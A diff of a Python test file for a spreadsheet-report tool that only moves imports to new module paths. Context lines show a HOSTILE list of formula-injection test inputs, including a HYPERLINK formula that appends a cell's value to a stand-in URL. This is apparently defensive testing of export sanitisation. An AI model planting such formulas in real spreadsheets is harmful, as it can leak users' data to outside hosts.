@@ -17,8 +17,7 @@ import pytest
 from workshop import __version__
 from workshop.analysis import summarize
 from workshop.errors import WorkshopError
-from workshop.i18n import tr
-from workshop.model import (
+from workshop.file.model import (
     ASSISTANCE_TYPES,
     PRIORITIES,
     SEXES,
@@ -33,9 +32,10 @@ from workshop.model import (
     WorkingGroup,
     new_uuid,
 )
+from workshop.file.store import WorkshopFile
+from workshop.languages.i18n import tr
 from workshop.reports import write_report
 from workshop.reports.full_xlsx import META_SHEET
-from workshop.store import WorkshopFile
 
 HOSTILE = ["=1+1", '=HYPERLINK("http://example.org/x?d="&A1,"Official text")', "+33 1 23 45",
            "-5 per cent", "@SUM(A1:A2)", "\tTabbed", "\rCarriage return", "\nLine feed",
@@ -324,7 +324,7 @@ def test_a_cancel_between_sheets_leaves_no_file(demo_master: Path, tmp_path: Pat
 
 def test_the_labels_follow_the_language(demo_master: Path, tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
-    import workshop.i18n as i18n
+    import workshop.languages.i18n as i18n
 
     table = {"Gaps": "Lacunes", "Priority": "Priorité", "High": "Élevée",
              "Reviewer's view": "Avis du relecteur"}
